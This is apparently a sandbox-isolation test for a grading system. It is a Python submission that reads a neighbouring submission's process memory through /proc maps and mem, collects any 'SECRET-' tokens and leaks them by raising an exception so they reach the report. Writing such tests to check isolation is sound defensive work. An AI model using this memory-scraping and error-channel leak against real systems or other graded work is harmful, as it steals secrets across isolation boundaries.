"""Reads the memory of another's submission that is graded meanwhile.

must hold: the secret is in no report
stopped by: private root, Landlock
control: off, stolen
"""

import contextlib
import json
import re
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    process = Path(f"/proc/{TARGET['neighbour']}")
    found = set()
    with (process / "mem").open("rb", 0) as memory:
        for line in (process / "maps").read_text().splitlines():
            where, rights = line.split()[:2]
            begin, end = (int(text, 16) for text in where.split("-"))
            if rights == "rw-p" and end - begin < 1 << 24:
                # it is at work meanwhile, and may have given the memory back
                with contextlib.suppress(OSError):
                    memory.seek(begin)
                    found.update(re.findall(rb"SECRET-[0-9a-f]{24}", memory.read(end - begin)))
    raise RuntimeError(str(found))
